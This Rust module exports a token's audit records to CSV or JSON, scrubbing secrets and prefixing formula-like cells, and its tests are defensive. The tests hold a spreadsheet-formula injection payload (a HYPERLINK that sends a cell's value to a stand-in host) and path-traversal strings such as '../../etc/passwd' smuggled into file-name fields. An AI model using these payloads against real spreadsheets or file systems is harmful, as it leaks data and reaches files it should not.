//! Audit export: a token's trail, or every record in a date range, written to
//! CSV or JSON with one row per record: time, event, actor, IP, country, user
//! agent, summary. Every value is scrubbed of anything shaped like a secret.
//! The file appears whole or not at all: rows go to a temp file beside it,
//! renamed over it at the end; a cancel or a failure leaves nothing behind.

use std::io::Write;
use std::sync::Arc;
use std::sync::atomic::AtomicBool;

use marketplace_api::models::AuditRecord;
use marketplace_api::rql::{Filter, Query};
use serde::{Deserialize, Serialize};

use crate::error::DeskError;
use crate::tokens::queries::{AuditQuery, AuditRole};

mod actions;

/// What to export.
#[derive(Debug, Clone, PartialEq, Eq, Deserialize, specta::Type)]
#[serde(rename_all = "camelCase", tag = "kind")]
pub enum AuditExportScope {
    /// A token's trail: what was done to it, or what it did.
    Token {
        #[serde(rename = "tokenId")]
        token_id: String,
        role: AuditRole,
    },
    /// Every record the connection may see between two times (RFC 3339, UTC).
    Range { from: String, to: String },
    /// What the Audit screen shows: the account's records, with its filters
    /// (its paging is ignored: every matching record is written).
    Account { query: crate::audit::account::AccountAuditQuery },
}

/// The file's format.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, specta::Type)]
#[serde(rename_all = "camelCase")]
pub enum ExportFormat {
    Csv,
    Json,
}

impl ExportFormat {
    /// The file name extension.
    pub fn extension(self) -> &'static str {
        match self {
            Self::Csv => "csv",
            Self::Json => "json",
        }
    }
}

/// How far an export is: records written, and how many there are in all when known.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, specta::Type)]
#[serde(rename_all = "camelCase")]
pub struct ExportProgress {
    pub written: u32,
    pub total: Option<u32>,
}

/// A finished export.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, specta::Type)]
#[serde(rename_all = "camelCase")]
pub struct ExportSummary {
    /// Records written.
    pub records: u32,
    /// Where the file is.
    pub path: String,
}

/// One exported row; the field order is the column order.
#[derive(Debug, Serialize)]
struct ExportRow {
    time: String,
    event: String,
    actor: String,
    ip: String,
    country: String,
    user_agent: String,
    summary: String,
}

impl ExportRow {
    /// Every cell, in column order.
    fn cells(&self) -> [&str; 7] {
        [&self.time, &self.event, &self.actor, &self.ip, &self.country, &self.user_agent, &self.summary]
    }
}

/// A cell as a spreadsheet may safely open it: text a spreadsheet would read as a formula
/// (starting with `=`, `+`, `-`, `@`, a tab or a carriage return) is prefixed with `'`, so a
/// user agent or a name a server controls can never run as one (OWASP's CSV injection rule).
fn spreadsheet_safe(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{cell}").into() } else { cell.into() }
}

/// The columns, as the CSV header names them.
const HEADER: [&str; 7] = ["time", "event", "actor", "ip", "country", "user_agent", "summary"];

impl ExportRow {
    fn of(record: &AuditRecord) -> Self {
        let api = record.request.as_ref().and_then(|request| request.api.as_ref());
        let actor = record.actor.as_ref().map(|actor| match &actor.name {
            Some(name) if !name.is_empty() => format!("{name} ({})", actor.id),
            _ => actor.id.clone(),
        });
        let country = api
            .and_then(|api| api.geolocation.as_ref())
            .and_then(|geo| geo.country_name.clone().or_else(|| geo.country_code.clone()));
        let scrub = |text: Option<String>| {
            let text = text.unwrap_or_default();
            crate::redact::redact_bare_secrets(&crate::redact_secrets(&text)).into_owned()
        };
        Self {
            time: scrub(record.timestamp.clone()),
            event: scrub(record.event.clone()),
            actor: scrub(actor),
            ip: scrub(api.and_then(|api| api.ip.clone())),
            country: scrub(country),
            user_agent: scrub(api.and_then(|api| api.user_agent.clone())),
            summary: scrub(record.summary.clone()),
        }
    }
}

/// Set to stop an export between two pages.
pub type CancelFlag = Arc<AtomicBool>;

/// What the desk keeps for exports: the one running now, for Cancel.
#[derive(Default)]
pub(crate) struct State {
    pub(crate) running: std::sync::Mutex<Option<CancelFlag>>,
}

impl AuditExportScope {
    /// The file name the save dialog proposes: `audit-TKN-1234-5678.csv`, or
    /// `audit-2026-06-01-to-2026-06-30.json`. Only letters, digits and dashes
    /// of what the window sent reach it.
    pub fn proposed_file_name(&self, format: ExportFormat) -> String {
        let plain = |text: &str, most: usize| -> String {
            text.chars().filter(|c| c.is_ascii_alphanumeric() || *c == '-').take(most).collect()
        };
        let what = match self {
            AuditExportScope::Token { token_id, .. } => plain(token_id, 20),
            AuditExportScope::Range { from, to } => format!("{}-to-{}", plain(from, 10), plain(to, 10)),
            AuditExportScope::Account { query } => {
                let by = query.actor_id.as_deref().or(query.object_id.as_deref()).map(|id| plain(id, 20));
                by.filter(|id| !id.is_empty()).unwrap_or_else(|| "account".to_owned())
            }
        };
        format!("audit-{what}.{}", format.extension())
    }
}

/// The query of a scope, newest first, without paging (the list-all pages it).
fn scope_query(scope: &AuditExportScope) -> Result<Query, DeskError> {
    match scope {
        AuditExportScope::Token { token_id, role } => Ok(AuditQuery::new(token_id.clone(), *role).to_query()?),
        AuditExportScope::Range { from, to } => Ok(Query::new()
            .filter(Filter::and(crate::tokens::queries::time_range(Some(from), Some(to))?))
            .order_by_desc("timestamp")
            .order_by_desc("id")),
        // The list-all replaces the query's limit and offset with its own paging.
        AuditExportScope::Account { query } => query.to_query(),
    }
}

/// Rows to CSV (with a header) or to a JSON list of objects.
enum RowWriter<W: Write> {
    Csv(Box<csv::Writer<W>>),
    Json { out: W, first: bool },
}

impl<W: Write> RowWriter<W> {
    fn new(format: ExportFormat, mut out: W) -> std::io::Result<Self> {
        Ok(match format {
            ExportFormat::Csv => {
                // The header is written even for an empty export, so not left to serde.
                let mut writer = csv::WriterBuilder::new().has_headers(false).from_writer(out);
                writer.write_record(HEADER)?;
                Self::Csv(Box::new(writer))
            }
            ExportFormat::Json => {
                out.write_all(b"[")?;
                Self::Json { out, first: true }
            }
        })
    }

    fn write(&mut self, row: &ExportRow) -> std::io::Result<()> {
        match self {
            Self::Csv(writer) => {
                let cells = row.cells().map(spreadsheet_safe);
                writer.write_record(cells.iter().map(|cell| cell.as_bytes())).map_err(std::io::Error::other)
            }
            Self::Json { out, first } => {
                out.write_all(if *first { b"\n  " } else { b",\n  " })?;
                *first = false;
                serde_json::to_writer(&mut *out, row).map_err(std::io::Error::other)
            }
        }
    }

    fn finish(self) -> std::io::Result<()> {
        match self {
            Self::Csv(mut writer) => writer.flush(),
            Self::Json { mut out, first } => {
                out.write_all(if first { b"]\n" } else { b"\n]\n" })?;
                out.flush()
            }
        }
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn the_proposed_file_name_holds_no_path() {
        let token = AuditExportScope::Token { token_id: "TKN-1234-5678".into(), role: AuditRole::Object };
        assert_eq!(token.proposed_file_name(ExportFormat::Csv), "audit-TKN-1234-5678.csv");
        let range = AuditExportScope::Range { from: "2026-06-01T00:00:00Z".into(), to: "../../etc/passwd".into() };
        assert_eq!(range.proposed_file_name(ExportFormat::Json), "audit-2026-06-01-to-etcpasswd.json");
        let account = AuditExportScope::Account { query: Default::default() };
        assert_eq!(account.proposed_file_name(ExportFormat::Csv), "audit-account.csv");
        let by = AuditExportScope::Account {
            query: crate::AccountAuditQuery { actor_id: Some("USR-1/../x".into()), ..Default::default() },
        };
        assert_eq!(by.proposed_file_name(ExportFormat::Csv), "audit-USR-1x.csv");
    }

    use super::*;

    #[test]
    fn a_cell_a_spreadsheet_would_read_as_a_formula_is_made_text() {
        for trigger in ["=", "+", "-", "@", "\t", "\r"] {
            let cell = format!("{trigger}HYPERLINK(\"https://x/?\"&G2,\"details\")");
            assert_eq!(spreadsheet_safe(&cell), format!("'{cell}"), "{trigger:?}");
        }
        for plain in ["curl/8.5", "2026-06-11T20:22:05.311Z", "", "a=b", "Ada (USR-0000-0001)"] {
            assert_eq!(spreadsheet_safe(plain), plain);
        }
    }

    #[test]
    fn the_csv_writes_a_formula_as_text_and_json_keeps_it_as_sent() {
        let row = ExportRow {
            time: "2026-06-11T20:22:05.311Z".into(),
            event: "e".into(),
            actor: "@Ada".into(),
            ip: "10.0.0.1".into(),
            country: "-GB".into(),
            user_agent: "=HYPERLINK(\"https://x/?\"&G2,\"details\")".into(),
            summary: "+1".into(),
        };
        let write = |format| {
            let mut out = Vec::new();
            let mut writer = RowWriter::new(format, &mut out).expect("writer");
            writer.write(&row).expect("row");
            writer.finish().expect("done");
            String::from_utf8(out).expect("utf-8")
        };
        let csv = write(ExportFormat::Csv);
        assert_eq!(
            csv.lines().nth(1),
            Some(
                "2026-06-11T20:22:05.311Z,e,'@Ada,10.0.0.1,'-GB,\"'=HYPERLINK(\"\"https://x/?\"\"&G2,\"\"details\"\")\",'+1"
            )
        );
        assert!(write(ExportFormat::Json).contains(r#""user_agent":"=HYPERLINK"#));
    }

    #[test]
    fn every_column_is_scrubbed_of_secrets_prefixed_or_bare() {
        // Built here, so that no secret-shaped literal sits in the source.
        let secret = format!("idt:TKN-1111-2222:{}", "0123456789abcdef".repeat(2));
        let record: AuditRecord = serde_json::from_value(serde_json::json!({
            "id": "AUD-0000-0000-0000-0001",
            "event": "platform.accounts.api-token.updated",
            "summary": format!("Token {secret} was pasted in a name"),
            "timestamp": "2026-06-11T20:22:05.311Z",
            "actor": { "id": "USR-0000-0001", "name": "Ada" },
            "request": { "api": { "ip": "10.0.0.1", "userAgent": format!("curl/8 (token {secret})"),
                                  "geolocation": { "countryCode": "GB", "countryName": "United Kingdom" } } }
        }))
        .expect("a record");
        let row = ExportRow::of(&record);
        assert!(!row.summary.contains("0123456789abcdef") && row.summary.contains(marketplace_api::REDACTED));
        assert!(!row.user_agent.contains("0123456789abcdef") && row.user_agent.starts_with("curl/8"));
        assert_eq!(
            (row.actor.as_str(), row.country.as_str(), row.ip.as_str()),
            ("Ada (USR-0000-0001)", "United Kingdom", "10.0.0.1")
        );
    }
}
